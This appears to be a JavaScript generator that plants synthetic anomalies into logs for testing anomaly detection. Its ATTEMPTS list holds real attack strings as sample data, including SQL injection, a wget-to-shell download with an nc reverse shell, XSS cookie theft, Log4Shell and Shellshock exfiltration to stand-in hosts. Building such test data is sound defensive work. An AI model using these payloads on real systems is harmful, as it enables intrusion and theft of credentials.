/**
 * Anomalies for logs: lines that the operator of the log would want to be alerted to. Five kinds:
 *
 *   stranger  a line of a file of another kind, each of another
 *   garbled   24 to 40 characters of a line replaced by others, drawn from all that can be printed
 *   intruder  a word of a line replaced by what somebody tries on a service
 *   news      a line whose message, after its first third, is one that was never there
 *   secret    a line with a key at its end that should not be in a log
 *
 * Each is made from the line that stands where it is put, so that its time fits, and takes its place. The same seed
 * makes the same file. No anomaly is planted twice: the second copy would be predicted from the first.
 */

const ATTEMPTS = [
  "admin'--/**/UNION/**/SELECT/**/name,passwd/**/FROM/**/users",
  '../../../../../../etc/shadow%00.png?cmd=cat',
  '`wget -qO- http://203.0.113.7/x.sh|sh`;nc -e /bin/sh 203.0.113.7 4444',
  '<img src=x onerror=fetch("//198.51.100.9/?c="+document.cookie)>',
  '$' + '{jndi:ldap://192.0.2.66:1389/Basic/Command/ZWNobyBoaQ==}',
  '() { :; }; /bin/bash -c "cat /etc/passwd > /dev/tcp/203.0.113.9/443"',
  '{{7*7}}{{config.__class__.__init__.__globals__["os"].popen("id")}}',
  'AAAA%08x.%08x.%08x.%n%n%n\\x90\\x90\\x31\\xc0\\x50\\x68//sh',
];

const NEWS = [
  'fan 3 has stopped, intake air at 94 degrees and rising, powering off in 20 seconds',
  'water was noticed below rack 12; somebody has to look at once',
  'licence expires tonight at midnight, all queues will be suspended then',
  'clock went backwards by 3817 seconds, refusing every further transaction',
  'a journal page reads back differently than it was written, trusting nothing after it',
  'my twin in the other building answers under my own name, giving up leadership',
  'the operator typed the big red word; draining guests before the lights go out',
  'battery holds 4 % of its charge, writing caches through from here on',
];

const KEY_LETTERS = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';

/** Numbers from 0 to below n, after Numerical Recipes; its high bits are used. @param {number} seed */
export function randomFrom(seed) {
  let state = seed >>> 0;
  return (n) => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return Math.floor((state / 2 ** 32) * n);
  };
}

/** One of a list, which then has it no more. */
const taken = (list, random) => list.splice(random(list.length), 1)[0];

/** Makers of lines: from the line that stands there, and lists to take from. */
const KINDS = {
  stranger: (_, random, { strangers }) => {
    const file = taken(strangers, random);
    return file[random(file.length)];
  },
  garbled: (line, random) => {
    const length = Math.min(24 + random(17), line.length);
    const from = random(line.length - length + 1);
    const noise = Array.from({ length }, () => String.fromCharCode(33 + random(94))).join('');
    return line.slice(0, from) + noise + line.slice(from + length);
  },
  intruder: (line, random, { attempts }) => {
    const words = line.split(' ');
    // Not among the first words: those are date and time.
    const at = Math.min(Math.floor(words.length / 3) + random(Math.ceil(words.length / 2)), words.length - 1);
    words[at] = taken(attempts, random);
    return words.join(' ');
  },
  news: (line, random, { news }) => {
    const words = line.split(' ');
    return [...words.slice(0, Math.ceil(words.length / 3)), taken(news, random)].join(' ');
  },
  secret: (line, random) => {
    const key = Array.from({ length: 40 }, () => KEY_LETTERS[random(64)]).join('');
    return `${line} Authorization: Bearer ${key}`;
  },
};

/**
 * @param {string[]} lines of the log. @param {string[][]} strangers lines of other files. @param {number} seed
 * @param {number} each anomalies of each kind, at most 8.
 * @returns {{ lines: string[], planted: Map<number, string> }} the log, and the kind of each planted line by its number.
 */
export function plant(lines, strangers, seed, each) {
  const random = randomFrom(seed);
  const lists = { strangers: [...strangers], attempts: [...ATTEMPTS], news: [...NEWS] };
  const planted = new Map();
  const all = [...lines];
  for (const kind of Object.keys(KINDS)) {
    for (let i = 0; i < each; ) {
      const at = random(lines.length);
      if (planted.has(at) || lines[at].trim() === '') continue;
      all[at] = KINDS[kind](lines[at], random, lists);
      planted.set(at, kind);
      i++;
    }
  }
  return { lines: all, planted };
}
